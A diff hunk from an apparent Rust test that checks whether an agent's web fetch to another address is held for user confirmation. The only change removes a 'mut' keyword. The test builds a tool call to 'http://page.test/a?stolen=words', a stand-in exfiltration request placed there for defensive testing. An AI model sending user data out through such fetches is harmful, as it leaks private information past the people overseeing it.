@@ -125,7 +125,7 @@ fn another_address_is_asked_about() {
     let server = bench.serve_with(&[("WB_WEB", &file)]);
     let token = token(&bench, "ada");
     let call = json!([["web_fetch", {"url": "http://page.test/a?stolen=words"}]]);
-    let mut decide = |question: Value, verb: &str| {
+    let decide = |question: Value, verb: &str| {
         let mut live = Live::ask(server.address(), &token, &question);
         let asked = live.until(|it| it["type"] == "confirm_required").unwrap();
         assert_eq!(asked["preview"], "http://page.test/a?stolen=words\n");
